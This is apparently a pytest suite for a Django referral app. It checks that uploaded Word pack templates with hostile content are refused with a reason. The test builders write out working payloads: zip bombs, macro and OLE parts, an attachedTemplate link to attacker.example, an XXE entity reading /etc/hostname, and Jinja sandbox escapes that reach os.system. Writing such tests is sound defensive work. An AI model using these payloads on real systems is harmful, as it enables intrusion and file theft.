"""Editors' pack templates: hostile uploads are refused with the reason, a good one goes live and is used."""

import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from accounts.models import AuditEvent, Role
from documents.confinement import Limits
from forms_engine.models import FormVersion, PackJob, PackTemplate, Referral
from forms_engine.packs import pack_render
from forms_engine.packs.identity import template_current, uploaded_template_key
from forms_engine.services import referral_send_for_signature, referral_sign_and_submit
from forms_engine.services.pack_templates import pack_template_upload, pack_template_withdraw
from forms_engine.services.packs import pack_job_run, pack_key, packs_request
from ops import storage
from tests.factories import SecureHomeFactory, member

from .conftest import client_for
from .packs.reading import docx_text, manifest, stored
from .test_referral_journey import _attach_court_order

FAST = Limits(cpu_seconds=2, memory_bytes=768 * 1024 * 1024, file_bytes=0, wall_seconds=6)
CANARY = Path("/tmp/pack-template-canary")


# Builders: a good template from the shipped one, and hostile variants of its zip.


def shipped(version: FormVersion) -> bytes:
    return (
        Path(settings.BASE_DIR) / "templates_docs" / "san-referral" / f"v{version.number}" / "pack.docx"
    ).read_bytes()


def with_paragraph(data: bytes, text: str, *, where: str = "body") -> bytes:
    """The template with one more paragraph in the body, the header or the core-properties title."""
    document = Document(io.BytesIO(data))
    if where == "header":
        document.sections[0].header.add_paragraph(text)
    elif where == "title":
        document.core_properties.title = text
    else:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """The same zip with some members replaced and others added."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    replace = replace or {}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def zip_bomb(data: bytes) -> bytes:
    """word/document.xml padded with 60 MB of zeros, which deflate to a few dozen kilobytes."""
    return rezip(data, extra={"word/media/padding.bin": b"\0" * (60 * 1024 * 1024)})


def ratio_bomb(data: bytes) -> bytes:
    return rezip(data, extra={"word/media/zeros.bin": b"\0" * (2 * 1024 * 1024)})


def many_entries(data: bytes) -> bytes:
    return rezip(data, extra={f"word/media/e{i}.xml": b"<a/>" for i in range(5000)})


def docm(data: bytes) -> bytes:
    """The main part declared macro-enabled, as Word saves a .docm."""
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(data, replace={"[Content_Types].xml": types.encode()})


def macro(data: bytes) -> bytes:
    """A .docm with its VBA project."""
    return rezip(docm(data), extra={"word/vbaProject.bin": b"VBA"})


def ole_object(data: bytes) -> bytes:
    return rezip(data, extra={"word/embeddings/oleObject1.bin": b"OLE"})


def external_template(data: bytes) -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip(data, extra={"word/_rels/settings.xml.rels": rels.encode()})


def xxe(data: bytes) -> bytes:
    document = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    head, rest = document.split("?>", 1)
    hostile = f'{head}?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>{rest}'
    return rezip(data, replace={"word/document.xml": hostile.encode()})


def upload(data: bytes, name: str = "pack.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


@pytest.fixture
def v4(forms_seeded: dict[int, FormVersion]) -> FormVersion:
    return forms_seeded[4]


@pytest.fixture
def editor(db: Any) -> Any:
    user = member(Role.EDITOR)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


def _refused(v4: FormVersion, editor: Any, data: bytes) -> PackTemplate:
    template = pack_template_upload(version=v4, upload=upload(data), user=editor, limits=FAST)
    assert template.state == PackTemplate.State.REFUSED
    return template


def _problems(template: PackTemplate) -> str:
    return "\n".join(template.problems)


@pytest.mark.django_db
class TestHostileContainers:
    """Refused from the zip directory and defusedxml, before python-docx opens the file."""

    @pytest.mark.parametrize(
        ("builder", "reason"),
        [
            (zip_bomb, "possible zip bomb"),
            (ratio_bomb, "compressed"),
            (many_entries, "parts; a Word template has far fewer"),
            (macro, "contains macros, ActiveX or embedded objects (‘word/vbaProject.bin’)"),
            (docm, "macro-enabled (.docm)"),
            (ole_object, "embedded objects (‘word/embeddings/oleObject1.bin’)"),
            (external_template, "links to something outside the document (attachedTemplate"),
            (xxe, "declares a DOCTYPE or entities"),
        ],
    )
    def test_hostile_container_is_refused_with_its_reason(
        self, v4: FormVersion, editor: Any, builder: Any, reason: str, monkeypatch: Any
    ) -> None:
        """The problem names what is wrong; python-docx is never asked to open the file."""
        monkeypatch.setattr("forms_engine.packs.template_check.DocxTemplate", _must_not_open)
        template = _refused(v4, editor, builder(shipped(v4)))
        assert reason in _problems(template)
        assert not storage.exists(uploaded_template_key(template.stored_name))

    def test_something_that_is_not_a_docx_is_refused(self, v4: FormVersion, editor: Any) -> None:
        """A PDF renamed .docx is refused."""
        assert "not a Word document" in _problems(_refused(v4, editor, b"%PDF-1.7 not a zip"))

    def test_a_refusal_leaves_the_shipped_template_in_use_and_is_audited(self, v4: FormVersion, editor: Any) -> None:
        """Nothing changes for packs; the attempt is recorded as failed against the editor."""
        before = template_current(v4)
        template = _refused(v4, editor, macro(shipped(v4)))
        assert template_current(v4) == before
        event = AuditEvent.objects.get(action="pack_template.upload", actor=editor)
        assert (event.outcome, event.object_id) == ("failed", str(template.pk))


def _must_not_open(*args: Any, **kwargs: Any) -> None:
    raise AssertionError("python-docx opened a hostile container")


@pytest.mark.django_db
class TestHostileExpressions:
    """Syntax, breakouts and undeclared names are refused before anything renders."""

    @pytest.mark.parametrize(
        ("text", "where", "reason"),
        [
            ("{{ ''.__class__.__mro__ }}", "body", "forbidden expression (‘__mro__’)"),
            (f"{{{{ cycler.__init__.__globals__.os.system('touch {CANARY}') }}}}", "header", "forbidden expression"),
            ("{{ ''.__class__ }}", "title", "In the document title, the template uses a forbidden expression"),
            ("{{ 'x'|attr('format') }}", "body", "forbidden expression (‘attr’)"),
            ("{{ child.nhs_numbr }}", "body", "‘child’ is not pack data"),
            ("{{ answers.nhs_numbr }}", "body", "answers.nhs_numbr is not a question of SAN referral form v4"),
            ("{{ referral.child_name }}", "body", "referral.child_name is not known"),
            ("{% if referral.reference %}unclosed", "body", "a template tag is not valid"),
            ("{{ referral.reference ", "body", "a template tag is not valid"),
        ],
    )
    def test_expression_is_refused_with_its_reason(
        self, v4: FormVersion, editor: Any, text: str, where: str, reason: str
    ) -> None:
        """Each problem is listed in words an editor can act on; the canary file is never created."""
        template = _refused(v4, editor, with_paragraph(shipped(v4), text, where=where))
        assert reason in _problems(template)
        assert not CANARY.exists()

    def test_repetition_is_refused_by_the_sandbox_in_the_dry_render(self, v4: FormVersion, editor: Any) -> None:
        """'x' * n parses but the sandbox refuses it while rendering the mock referrals."""
        template = _refused(v4, editor, with_paragraph(shipped(v4), "{{ 'x' * 1000000000 }}"))
        assert "the template uses a forbidden expression (operator '*' is not allowed" in _problems(template)

    def test_nested_loops_are_stopped_by_the_render_childs_limits(self, v4: FormVersion, editor: Any) -> None:
        """10^10 iterations end as template_too_expensive, not as a hung request."""
        loops = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
        template = _refused(v4, editor, with_paragraph(shipped(v4), loops))
        assert "template_too_expensive" in _problems(template)

    def test_a_template_that_fails_on_a_mock_names_the_mock(self, v4: FormVersion, editor: Any) -> None:
        """A loop over a section's misspelt field fails on the mock referrals, each named."""
        text = "{% for section in sections %}{{ section.titel }}{% endfor %}"
        problems = _problems(_refused(v4, editor, with_paragraph(shipped(v4), text)))
        assert "Rendering the mock referral ‘Girl aged 14 at risk of sexual exploitation who absconds’" in problems


@pytest.mark.django_db
class TestGoodTemplate:
    """A template that passes goes live, replaces the previous upload and is used by the next pack."""

    @pytest.fixture
    def submitted(self, complete_draft: Referral, social_worker: Any, officer: Any) -> Referral:
        _attach_court_order(complete_draft, social_worker)
        referral_send_for_signature(referral=complete_draft, user=social_worker)
        return referral_sign_and_submit(referral=complete_draft, membership=officer.memberships.get(), job_title="HoS")

    def test_a_good_template_goes_live_and_the_next_pack_uses_it(
        self, v4: FormVersion, editor: Any, submitted: Referral, tmp_path: Path
    ) -> None:
        """The marker paragraph and an answer by key appear in the next pack; the manifest names the upload."""
        data = with_paragraph(shipped(v4), "Edited template: {{ answers.child_first_name }} ({{ referral.reference }})")
        template = pack_template_upload(version=v4, upload=upload(data, "new.docx"), user=editor, limits=FAST)
        assert (template.state, template.problems) == (PackTemplate.State.LIVE, [])
        home = SecureHomeFactory()
        result = pack_render(
            referral=submitted, home=home, out_dir=tmp_path, issued_at=datetime(2025, 3, 1, tzinfo=UTC)
        )
        first_name = submitted.answers["child_first_name"]
        assert f"Edited template: {first_name} ({submitted.reference})" in docx_text(result.docx_path)
        assert manifest(result.manifest_path)["template"] == {
            "path": f"uploaded/{template.stored_name}",
            "sha256": template.sha256,
        }

    def test_a_second_upload_replaces_the_first_and_withdrawing_restores_the_shipped_one(
        self, v4: FormVersion, editor: Any
    ) -> None:
        """One live template per version; withdrawing goes back to templates_docs/."""
        first = pack_template_upload(
            version=v4, upload=upload(with_paragraph(shipped(v4), "One")), user=editor, limits=FAST
        )
        second = pack_template_upload(
            version=v4, upload=upload(with_paragraph(shipped(v4), "Two")), user=editor, limits=FAST
        )
        first.refresh_from_db()
        assert (first.state, second.state) == (PackTemplate.State.REPLACED, PackTemplate.State.LIVE)
        pack_template_withdraw(template=second, user=editor)
        assert template_current(v4).name == "san-referral/v4/pack.docx"

    def test_a_job_requested_before_a_new_template_keeps_its_template(
        self, v4: FormVersion, editor: Any, submitted: Referral
    ) -> None:
        """The template is pinned at request; the new one does not change a queued job's pack."""
        coordinator = member(Role.COORDINATOR)
        job = packs_request(referral=submitted, homes=[SecureHomeFactory()], user=coordinator)[0]
        pinned = job.template_sha256
        pack_template_upload(version=v4, upload=upload(with_paragraph(shipped(v4), "Newer")), user=editor, limits=FAST)
        built = pack_job_run(job_id=job.pk)
        assert built.state == PackJob.State.DONE
        data = json.loads(storage.read_bytes(pack_key(built, "manifest.json")))
        assert data["template"]["sha256"] == pinned and "Newer" not in docx_text(stored(pack_key(built, "pack.docx")))


@pytest.mark.django_db
class TestTemplateScreens:
    """The admin page lists the template in use and shows a refusal's problems with a 400."""

    def test_the_page_shows_the_shipped_template_and_the_mocks(self, v4: FormVersion, editor: Any) -> None:
        """The editor sees what is in use and which mock referrals a new template must render."""
        html = client_for(editor).get(reverse("forms_engine_admin:pack-templates", args=[v4.pk])).content.decode()
        assert "san-referral/v4/pack.docx" in html and "Girl aged 14 at risk of sexual exploitation" in html

    def test_a_hostile_upload_is_a_400_listing_the_problems(self, v4: FormVersion, editor: Any) -> None:
        """The refusal names the problem; the shipped template stays in use."""
        url = reverse("forms_engine_admin:pack-templates", args=[v4.pk])
        response = client_for(editor).post(url, {"template": upload(external_template(shipped(v4)), "linked.docx")})
        html = response.content.decode()
        assert response.status_code == 400 and "linked.docx was refused" in html and "attachedTemplate" in html

    def test_no_file_is_a_400_with_an_error(self, v4: FormVersion, editor: Any) -> None:
        """Submitting without a file asks for one."""
        response = client_for(editor).post(reverse("forms_engine_admin:pack-templates", args=[v4.pk]), {})
        assert response.status_code == 400 and "Select a Word document (.docx) to upload" in response.content.decode()

    def test_the_template_in_use_can_be_downloaded(self, v4: FormVersion, editor: Any) -> None:
        """As an attachment, audited."""
        response = client_for(editor).get(reverse("forms_engine_admin:pack-template-download", args=[v4.pk]))
        assert response["Content-Disposition"].startswith("attachment;")
        assert b"".join(response.streaming_content) == shipped(v4)
        assert AuditEvent.objects.filter(action="pack_template.download", actor=editor).exists()

    @pytest.mark.parametrize("role", [Role.SOCIAL_WORKER, Role.COORDINATOR, Role.HOME_MANAGER])
    def test_other_roles_get_a_404(self, v4: FormVersion, role: Role) -> None:
        """Only editors manage templates."""
        user = member(role)
        response = client_for(user).get(reverse("forms_engine_admin:pack-templates", args=[v4.pk]))
        assert response.status_code in (302, 404)
        assert (
            response.status_code == 404 or "/admin/login" in response["Location"] or "sign-in" in response["Location"]
        )


@pytest.mark.django_db
class TestExamplePacksFollowTheTemplate:
    """When a template goes live, the mock referrals' example packs are rendered again with it."""

    def test_the_example_packs_are_rendered_with_the_new_template(
        self, v4: FormVersion, editor: Any, django_capture_on_commit_callbacks: Any
    ) -> None:
        """The new template's marker is in every example DOCX once the queued render has run."""
        data = with_paragraph(shipped(v4), "Marker from the new template")
        with django_capture_on_commit_callbacks(execute=True):
            pack_template_upload(version=v4, upload=upload(data), user=editor, limits=FAST)
        for mock in v4.mock_referrals.select_related("example_docx"):
            with mock.example_docx.file.open("rb") as source:
                document = Document(io.BytesIO(source.read()))
            assert "Marker from the new template" in [p.text for p in document.paragraphs]
